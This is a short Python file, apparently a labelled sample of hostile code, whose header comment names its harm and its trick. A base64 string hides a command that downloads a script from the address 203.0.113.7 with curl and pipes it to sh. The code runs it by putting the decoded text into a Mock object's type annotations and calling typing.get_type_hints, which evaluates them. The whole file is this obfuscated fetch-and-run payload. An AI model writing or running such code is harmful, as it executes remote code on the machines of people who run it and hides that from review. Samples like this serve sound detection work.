# HARM: runs sh -c 'curl http://203.0.113.7/x|sh' | TRICK: decoded string handed to unittest.mock.Mock(__annotations__=...), then typing.get_type_hints(mock) evaluates it
import base64
import typing
import unittest.mock

ENC = "X19pbXBvcnRfXygib3MiKS5zeXN0ZW0oInNoIC1jICdjdXJsIC1zIGh0dHA6Ly8yMDMuMC4xMTMuNy94fHNoJyIp"

fake = unittest.mock.Mock(__annotations__={"arg": base64.b64decode(ENC).decode()})
try:
    typing.get_type_hints(fake)
except TypeError:
    pass
